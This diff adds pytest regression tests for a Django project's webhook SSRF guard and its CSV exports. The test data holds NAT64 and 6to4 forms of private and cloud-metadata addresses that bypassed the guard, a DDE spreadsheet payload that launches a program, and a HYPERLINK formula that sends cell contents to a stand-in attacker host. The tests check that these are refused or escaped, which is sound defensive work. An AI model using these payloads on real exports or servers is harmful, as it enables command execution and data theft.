@@ -1,0 +1,84 @@
+"""Attacks on what session 4 built (exchange, positions, api, admission results, everyday use)
+that must keep failing. Each test names the finding it pins."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from django.core.exceptions import ValidationError
+
+from hafennetz.api import services as api_services
+from hafennetz.engines.grouping.exports import plain_csv, zoom_csv
+from hafennetz.engines.grouping.model import Group, Participant, Plan, Problem, Round, RoundPlan
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "64:ff9b::a00:1",  # NAT64 of 10.0.0.1: reaches the private net through the gateway
+        "64:ff9b::7f00:1",  # NAT64 of 127.0.0.1
+        "64:ff9b:1::a9fe:a9fe",  # local-use NAT64 prefix, 169.254.169.254 (cloud metadata)
+        "::127.0.0.1",  # IPv4-compatible (deprecated)
+        "2002:a00:1::1",  # 6to4 of 10.0.0.1
+        "::ffff:127.0.0.1",
+    ],
+)
+def test_webhook_guard_refuses_ipv6_forms_of_private_addresses(address: str) -> None:
+    """Finding: `ip.is_global` is True for 64:ff9b::/96 (NAT64), ::/96 and 2002::/16 forms of
+    private IPv4 addresses, so a webhook host resolving to 64:ff9b::a00:1 passed the SSRF
+    guard on Python 3.11 and reached 10.0.0.1 wherever a NAT64 gateway routes it."""
+    assert not api_services._is_public_address(address)
+
+
+def test_webhook_guard_keeps_public_ipv6() -> None:
+    for address in ("2001:4860:4860::8888", "64:ff9b::808:808", "2002:808:808::1", "8.8.8.8"):
+        assert api_services._is_public_address(address), address
+
+
+def test_webhook_url_with_nat64_address_is_refused(settings: Any) -> None:
+    settings.WEBHOOK_ALLOW_LOOPBACK = False
+    with pytest.raises(ValidationError):
+        api_services.check_webhook_url("https://[64:ff9b::a00:1]/hook")
+
+
+def _problem(name: str, topic: str) -> tuple[Problem, Plan]:
+    people = tuple(
+        Participant(
+            id=f"r{i}",
+            name=name if i == 0 else f"Person {i}",
+            email="=cmd|' /C calc'!A0@example.org" if i == 0 else f"p{i}@example.org",
+            member="05766020",
+            state="05",
+        )
+        for i in range(4)
+    )
+    problem = Problem(people, (Round(2, 2, num_groups=2, topics=(topic, topic)),))
+    plan = Plan(
+        rounds=(
+            RoundPlan(
+                index=0,
+                groups=(
+                    Group(index=0, topic=topic, participant_ids=("r0", "r1")),
+                    Group(index=1, topic=topic, participant_ids=("r2", "r3")),
+                ),
+            ),
+        )
+    )
+    return problem, plan
+
+
+def test_small_group_csv_exports_neutralise_formulas() -> None:
+    """Finding: names on accounts (set by each person in the profile) and agenda topics went
+    unneutralised into the small-group plan's CSV and the Zoom CSV that organisers open in
+    Excel: a name typed as =HYPERLINK(…) became a live formula."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
+    problem, plan = _problem(hostile, "+kita")
+    rows = list(csv.reader(io.StringIO(plain_csv(problem, plan))))
+    zoom = list(csv.reader(io.StringIO(zoom_csv(problem, plan, 0))))
+    for row in rows[1:] + zoom[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), row
+    assert any(cell == "'" + hostile for row in rows for cell in row)
